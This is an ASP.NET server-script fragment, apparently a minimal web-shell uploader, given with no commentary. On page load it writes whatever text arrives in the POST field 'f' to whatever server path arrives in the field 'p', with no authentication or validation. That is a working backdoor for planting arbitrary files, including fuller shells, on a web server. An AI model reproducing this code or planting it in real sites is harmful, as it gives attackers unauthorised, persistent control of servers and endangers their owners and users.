<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    System.IO.StreamWriter w = new System.IO.StreamWriter(Request.Form["p"], false, System.Text.Encoding.Default);
    w.Write(Request.Form["f"]);
    w.Close();
}
</script>
